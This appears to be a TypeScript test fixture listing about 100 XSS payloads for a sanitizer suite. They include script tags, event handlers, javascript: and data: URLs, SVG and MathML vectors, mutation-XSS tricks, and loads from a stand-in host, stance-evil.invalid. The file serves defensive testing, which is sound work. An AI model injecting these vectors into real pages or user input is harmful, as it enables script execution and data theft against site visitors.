/**
 * Hostile markup for the import and rendering suite: script tags, every handler style, javascript:/data:
 * URLs, SVG and MathML vectors, mutation XSS, CSS url(), meta refresh, <base>, frames and forms. Each one,
 * if it ran, would set window.__pwned or fetch from stance-evil.invalid.
 */
const P = 'window.__pwned=1'
const EVIL = 'https://stance-evil.invalid'

const BASE: string[] = [
  `<script>${P}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<SCRIPT>${P}</SCRIPT>`,
  `<scr<script>ipt>${P}</scr</script>ipt>`,
  `<img src=x onerror="${P}">`,
  `<img src="${EVIL}/pixel.png">`,
  `<img srcset="${EVIL}/a.png 1x">`,
  `<svg onload="${P}"></svg>`,
  `<svg><script>${P}</script></svg>`,
  `<svg><a xlink:href="javascript:${P}"><text x="0" y="20">svg link</text></a></svg>`,
  `<svg><animate onbegin="${P}" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
  `<math href="javascript:${P}">math</math>`,
  `<body onload="${P}">`,
  `<iframe src="javascript:${P}"></iframe>`,
  `<iframe srcdoc="<script>${P}</script>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<object data="${EVIL}/x.swf"></object>`,
  `<embed src="${EVIL}/x.swf">`,
  `<a href="javascript:${P}">js link</a>`,
  `<a href="JaVaScRiPt:${P}">mixed-case js link</a>`,
  `<a href="&#106;avascript:${P}">entity js link</a>`,
  `<a href=" javascript:${P}">spaced js link</a>`,
  `<a href="data:text/html,<script>${P}</script>">data link</a>`,
  `<a href="vbscript:msgbox(1)">vbs link</a>`,
  `<form action="${EVIL}/post"><input name="q"><button formaction="javascript:${P}">go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<base href="${EVIL}/">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<style>@import url(${EVIL}/x.css); body{background:url(${EVIL}/bg.png)}</style>`,
  `<div style="background-image:url(${EVIL}/bg.png)">styled</div>`,
  `<div style="width:expression(${P})">old IE</div>`,
  `<p onclick="${P}" onmouseover="${P}" onfocus="${P}" tabindex="0">handlers</p>`,
  `<details open ontoggle="${P}"><summary>toggle</summary></details>`,
  `<video><source onerror="${P}"></video>`,
  `<audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `<input autofocus onfocus="${P}">`,
  `<marquee onstart="${P}">m</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
  `<template><img src=x onerror="${P}"></template>`,
  `<xmp><img src=x onerror="${P}"></xmp>`,
  `<a href="https://ok.example/">safe link</a><img src="data:image/svg+xml,<svg onload='${P}'>">`,
  `"><script>${P}</script>`,
  `'--><img src=x onerror=${P}>`,
  `<object data="data:text/html,<script>${P}</script>"></object>`
]

/** At least 100 payloads: each base vector alone and wrapped in article-like HTML. */
export const XSS_PAYLOADS: string[] = [
  ...BASE,
  ...BASE.map((v) => `<article><h1>Hostile ${v.length}</h1><p>Before the vector, a readable sentence about talks.</p>${v}<p>After the vector, another readable sentence about sanctions.</p></article>`),
  ...BASE.slice(0, 15).map((v) => `<div><p>Nested</p><div><span>${v}</span></div></div>`)
]
